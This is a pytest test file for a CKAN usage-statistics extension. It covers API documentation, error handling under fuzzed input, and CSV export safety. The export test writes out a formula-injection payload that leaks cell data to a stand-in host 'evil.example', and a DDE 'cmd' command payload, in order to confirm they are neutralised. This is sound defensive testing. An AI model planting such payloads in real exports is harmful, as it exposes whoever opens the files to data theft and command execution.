"""The usagestats actions: documented, consistent, and never a 500; exports safe in a spreadsheet."""
from __future__ import annotations

import csv
import io
import re

import ckan.plugins.toolkit as tk
import pytest
from ckan.tests import factories, helpers
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ckanext.elections.utils import utcnow
from ckanext.usagestats import rollup, store
from ckanext.usagestats.logic import action

ACTIONS = sorted(action.__all__)
SCOPED = [name for name in ACTIONS if name != "usagestats_dataset_show"]
NAMES = ("organization", "start", "end", "granularity", "limit", "least", "by", "zero_results", "hours", "until",
         "id")
ALLOWED = {200, 400, 403, 404, 409}

odd_text = st.one_of(
    st.text(max_size=30),
    st.sampled_from(["\x00", " ", "%20", "0001-01-01", "9999-12-31", "2026-02-30", "2026-01-01T25:00", "-1", "0",
                     "1e999", "day", "week", "month", "license", "tag", "true", "2147483648", "*:*", 'x" OR "y']),
)
scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True), odd_text)
values = st.recursive(scalars, lambda inner: st.one_of(
    st.lists(inner, max_size=3), st.dictionaries(odd_text, inner, max_size=3)), max_leaves=8)
payloads = st.dictionaries(st.one_of(st.sampled_from(NAMES), odd_text), values, max_size=5)


def _documented_params(name: str) -> set[str]:
    doc = tk.get_action(name).__doc__ or ""
    return set(re.findall(r":param (\w+):", doc)) & set(re.findall(r":type (\w+):", doc))


@pytest.mark.ckan_config("ckanext.usagestats.rollup_interval", 0)
@pytest.mark.usefixtures("with_plugins", "clean_db")
class TestConsistency:
    @pytest.mark.parametrize("name", ACTIONS)
    def test_help_show_lists_every_parameter(self, name):
        expected = {"usagestats_dataset_show": {"id"},
                    "usagestats_growth": {"organization"},
                    "usagestats_live": {"organization", "hours", "until"}}.get(
            name, {"organization", "start", "end", "granularity", "limit"})
        expected |= {"usagestats_datasets": {"least"}, "usagestats_catalogue": {"by"},
                     "usagestats_searches": {"zero_results"}}.get(name, set())
        assert _documented_params(name) == expected
        served = helpers.call_action("help_show", name=name)
        assert "{params}" not in served and "module documentation" not in served

    @pytest.mark.parametrize("name", SCOPED)
    def test_an_organisation_by_id_or_name_and_unknown_ones_not_found(self, name):
        sysadmin = factories.Sysadmin()
        org = factories.Organization()
        by_name = helpers.call_action(name, {"user": sysadmin["name"]}, organization=org["name"])
        by_id = helpers.call_action(name, {"user": sysadmin["name"]}, organization=org["id"])
        assert by_name == by_id and by_name["scope"]["organization"] == org["name"]
        for who in (sysadmin["name"], ""):
            with pytest.raises(tk.ObjectNotFound):
                helpers.call_action(name, {"user": who, "ignore_auth": False}, organization="no-such-org")

    def test_access_is_checked_before_the_parameters(self, app):
        answer = app.post("/api/3/action/usagestats_searches", json={"zero_results": 1})
        assert answer.status_code == 403

    @pytest.mark.parametrize("params", [{"limit": " "}, {"hours": " "}, {"start": "0001-01-01"},
                                        {"end": "9999-12-31"}, {"until": "9999-12-31T23:59"},
                                        {"limit": 1000}, {"granularity": ["day"]}])
    def test_odd_parameters_are_validation_errors(self, app, params):
        token = factories.APIToken(user=factories.Sysadmin()["name"])["token"]
        for name in ("usagestats_traffic", "usagestats_live"):
            answer = app.post(f"/api/3/action/{name}", json=params, headers={"Authorization": token})
            assert answer.status_code in (200, 409), (name, params, answer.status_code)
        answer = app.post("/api/3/action/usagestats_traffic", json={**params, "hours": 1, "until": None},
                          headers={"Authorization": token})
        assert answer.status_code in (200, 409)

    def test_a_list_or_an_object_for_a_single_value_is_a_validation_error(self, app):
        token = factories.APIToken(user=factories.Sysadmin()["name"])["token"]

        for value in ([{}, float("inf")], [{}], {"a": 1}, ["2026-01-01"]):
            answer = app.post("/api/3/action/usagestats_api_calls", json={"start": value},
                              headers={"Authorization": token}, status=409)
            assert list(answer.json["error"]) == ["start", "__type"], value

    def test_no_input_is_a_server_error(self, app):
        user = factories.User()
        sysadmin = factories.Sysadmin()
        org = factories.Organization(users=[{"name": user["name"], "capacity": "admin"}])
        dataset = factories.Dataset(owner_org=org["id"])
        tokens = {"anonymous": None, "user": factories.APIToken(user=user["name"])["token"],
                  "sysadmin": factories.APIToken(user=sysadmin["name"])["token"]}
        known = {"organization": [org["name"], org["id"]], "id": [dataset["name"], dataset["id"]]}

        @settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
        @given(st.sampled_from(ACTIONS), st.sampled_from(list(tokens)), payloads, st.booleans(), st.data())
        def check(name, who, payload, use_known, data):
            if use_known:
                key = data.draw(st.sampled_from(list(known)))
                payload = {**payload, key: data.draw(st.sampled_from(known[key]))}
            headers = {"Authorization": tokens[who]} if tokens[who] else {}
            answer = app.post(f"/api/3/action/{name}", json=payload, headers=headers)
            assert answer.status_code in ALLOWED, (name, who, payload, answer.status_code, answer.body[:500])
            assert answer.headers["Content-Type"].startswith("application/json")

        check()


@pytest.mark.ckan_config("ckanext.usagestats.rollup_interval", 0)
@pytest.mark.ckan_config("ckanext.usagestats.reindex", False)
@pytest.mark.usefixtures("with_plugins", "clean_db")
class TestExports:
    def test_cells_a_spreadsheet_would_run_are_text(self, app):
        dataset = factories.Dataset(owner_org=factories.Organization()["id"],
                                    resources=[{"url": "https://files.example.org/a.csv"}])
        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
        now = utcnow()
        store.store([], [{"ts": now, "kind": "search0", "visitor": "v", "detail": formula.lower(), "results": 0}])
        resource = dataset["resources"][0]
        view = factories.ResourceView(resource_id=resource["id"], view_type="datatables_view")
        app.get(f"/dataset/{dataset['id']}/resource/{resource['id']}/view/{view['id']}",
                headers={"Referer": "http://=cmd|'/C calc'!A0/x", "User-Agent": "Mozilla/5.0 Firefox/128.0"})
        rollup.run()
        token = factories.APIToken(user=factories.Sysadmin()["name"])["token"]

        for panel in ("zero-searches", "embeds"):
            body = app.get(f"/usage/export/{panel}.csv", headers={"Authorization": token}).body
            cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
            assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], (panel, cells)
        zero = app.get("/usage/export/zero-searches.csv", headers={"Authorization": token}).body
        assert "'" + formula.lower() in next(csv.reader(io.StringIO(zero.splitlines()[1])))
        embeds = app.get("/usage/export/embeds.csv", headers={"Authorization": token}).body
        assert next(csv.reader(io.StringIO(embeds.splitlines()[1])))[0].startswith("'=cmd|")
